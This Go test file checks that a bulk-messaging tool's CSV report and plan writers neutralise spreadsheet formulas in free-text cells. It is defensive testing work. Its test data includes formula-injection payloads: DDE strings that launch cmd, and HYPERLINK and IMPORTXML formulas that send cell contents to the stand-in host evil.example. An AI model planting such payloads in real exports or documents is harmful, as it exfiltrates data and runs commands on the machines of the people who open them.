package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/plivo-bulk/plivo-bulk/batch"
)

// formulas are cells that a spreadsheet would run, as the input, a server's
// error message or a server's settings can hold them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"=1+2",
	"@SUM(A1:A9)",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"\t=1+2",
	"\r=1+2",
	"\r\n@SUM(A1)",
	"=first line\n=second line",
	"@", "=", "+", "-", "\t", "\r",
}

// dangerous says whether a cell read back from a written file starts with
// what a spreadsheet takes for a formula.
func dangerous(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// readBack parses a written CSV file as a spreadsheet would import it.
func readBack(t *testing.T, data []byte) (header []string, rows [][]string) {
	t.Helper()
	if bytes.HasPrefix(data, []byte(batch.OriginLinePrefix)) { // one cell, above the header
		data = data[bytes.IndexByte(data, '\n')+1:]
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("reading the written file back: %v\n%s", err, data)
	}
	if len(recs) == 0 {
		t.Fatal("the written file is empty")
	}
	return recs[0], recs[1:]
}

// checkCells checks the named columns of every row: none may start a
// formula, and each must hold what was written, but for a leading
// apostrophe and line breaks turned into spaces.
func checkCells(t *testing.T, header []string, rows [][]string, columns []string, want func(row int) string) {
	t.Helper()
	for i, rec := range rows {
		w := strings.NewReplacer("\r\n", " ", "\r", " ", "\n", " ").Replace(want(i))
		for _, col := range columns {
			j := slices.Index(header, col)
			if j < 0 {
				t.Fatalf("no column %q in %v", col, header)
			}
			cell := rec[j]
			if dangerous(cell) {
				t.Errorf("row %d, column %s: %q starts a formula", i, col, cell)
			}
			if got := strings.TrimPrefix(cell, "'"); got != w || strings.ContainsAny(cell, "\r\n") {
				t.Errorf("row %d, column %s = %q, want %q (with a leading apostrophe at most)", i, col, cell, w)
			}
		}
	}
}

// allTargets sets every field to v.
func allTargets(v string) batch.Targets {
	var t batch.Targets
	for f := range t {
		t[f] = batch.Setting{Value: v, Set: true}
	}
	return t
}

// TestWriter_Write_formulas writes, in every free-text column of the
// report (the raw cell of an invalid number, the api_id, the error, which
// can be the server's message, and the four targets), texts that a
// spreadsheet would run, and reads the report back as a spreadsheet would.
func TestWriter_Write_formulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, testOrigin)
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range formulas {
		results := []batch.Result{
			{ // an invalid row: its number is the raw cell
				Row:    batch.Row{Line: 2 + i, Number: f, Targets: allTargets(f), Invalid: "bad"},
				Status: batch.StatusInvalid, Error: f,
			},
			{ // a failed row: the api_id and the error come from the server
				Row:    batch.Row{Line: 2 + i, Number: "12025550101", Targets: allTargets(f)},
				Status: batch.StatusFailed, HTTPStatus: 400, APIID: f, Attempts: 1, Kind: "http_4xx", Error: f,
			},
		}
		for _, r := range results {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	header, rows := readBack(t, buf.Bytes())
	if len(rows) != 2*len(formulas) {
		t.Fatalf("read back %d rows, want %d", len(rows), 2*len(formulas))
	}
	checkCells(t, header, rows, []string{"error"}, func(i int) string { return formulas[i/2] })
	for i, rec := range rows { // the targets are escaped: exact, and safe
		for _, col := range batch.FieldNames() {
			cell := rec[slices.Index(header, col)]
			if v, err := batch.UnescapeCell(cell); dangerous(cell) || err != nil || v != formulas[i/2] {
				t.Errorf("row %d, column %s = %q: want %q escaped", i, col, cell, formulas[i/2])
			}
		}
	}
	var invalid, failed [][]string
	for i := 0; i < len(rows); i += 2 {
		invalid, failed = append(invalid, rows[i]), append(failed, rows[i+1])
	}
	checkCells(t, header, invalid, []string{"number"}, func(i int) string { return formulas[i] })
	checkCells(t, header, failed, []string{"api_id"}, func(i int) string { return formulas[i] })
}

// TestWriter_Write_serverErrors writes errors as the server words them,
// starting with = or @, and checks the report's error cell.
func TestWriter_Write_serverErrors(t *testing.T) {
	t.Parallel()
	messages := []string{
		"=cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		`=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")`,
		"@\"not found\"",
		"-1 credits left",
		"+: unexpected token\r\nat line 1",
	}
	var buf bytes.Buffer
	w, err := NewWriter(&buf, testOrigin)
	if err != nil {
		t.Fatal(err)
	}
	for i, m := range messages {
		r := batch.Result{
			Row:    batch.Row{Line: 2 + i, Number: "12025550101", Targets: batch.Targets{batch.Alias: {Value: "desk", Set: true}}},
			Status: batch.StatusFailed, HTTPStatus: 400, APIID: "e1", Attempts: 1, Kind: "http_4xx", Error: m,
		}
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	header, rows := readBack(t, buf.Bytes())
	if len(rows) != len(messages) {
		t.Fatalf("read back %d rows, want %d", len(rows), len(messages))
	}
	checkCells(t, header, rows, []string{"error"}, func(i int) string { return messages[i] })
}

// TestPlanWriter_Write_formulas does the same for the plan, whose current
// values come from the server.
func TestPlanWriter_Write_formulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	p, err := OpenPlan("-", New, &buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range formulas {
		results := []batch.Result{
			{Row: batch.Row{Line: 2 + i, Number: "12025550101", Targets: allTargets(f)}, Status: batch.StatusOK, Current: allTargets(f)},
			{Row: batch.Row{Line: 2 + i, Number: f, Targets: allTargets(f)}, Status: batch.StatusFailed, Error: f},
		}
		for _, r := range results {
			if err := p.Write(r); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	header, rows := readBack(t, buf.Bytes())
	if len(rows) != 2*len(formulas) {
		t.Fatalf("read back %d rows, want %d", len(rows), 2*len(formulas))
	}
	var current, failed [][]string
	for i := 0; i < len(rows); i += 2 {
		current, failed = append(current, rows[i]), append(failed, rows[i+1])
	}
	for i, rec := range current {
		for _, c := range rec[4:] {
			if v, err := batch.UnescapeCell(c); dangerous(c) || err != nil || v != formulas[i] {
				t.Errorf("row %d: value cell %q, want %q escaped", i, c, formulas[i])
			}
		}
	}
	checkCells(t, header, failed, []string{"number", "error"}, func(i int) string { return formulas[i] })
}

// TestPlanWriter_Write_clear checks that the plan writes an empty value as
// (clear), as the other files do, and the literal text "(clear)" apart.
func TestPlanWriter_Write_clear(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	p, err := OpenPlan("-", New, &buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"", batch.ClearMarker} {
		if err := p.Write(batch.Result{Row: batch.Row{Line: 2, Number: "12025550101", Targets: allTargets(v)}, Status: batch.StatusOK, Current: allTargets(v)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	_, rows := readBack(t, buf.Bytes())
	for i, want := range []string{"(clear)", "'(clear)"} {
		for _, c := range rows[i][4:] {
			if c != want {
				t.Errorf("row %d: value cell %q, want %q", i, c, want)
			}
		}
	}
}

// TestOpen_resumeFormulas checks that neutralised cells do not hide an ok
// row from a resumed run: Done compares neutralised cells with neutralised
// cells.
func TestOpen_resumeFormulas(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "report.csv")
	w, err := Open(path, New, testOrigin)
	if err != nil {
		t.Fatal(err)
	}
	var rows []batch.Row
	for i, f := range formulas {
		// One number per row: a number's latest line decides.
		r := batch.Row{Line: 2 + i, Number: fmt.Sprintf("1202555%04d", i), Targets: allTargets(f)}
		rows = append(rows, r)
		if err := w.Write(batch.Result{Row: r, Status: batch.StatusOK, HTTPStatus: 202, APIID: f, Attempts: 1}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	w, err = Open(path, Resume, testOrigin)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = w.Close() }()
	for _, r := range rows {
		if !w.Completed().Has(r) {
			t.Errorf("resumed report does not have row %d (targets %q)", r.Line, r.Targets[batch.Alias].Value)
		}
	}
}
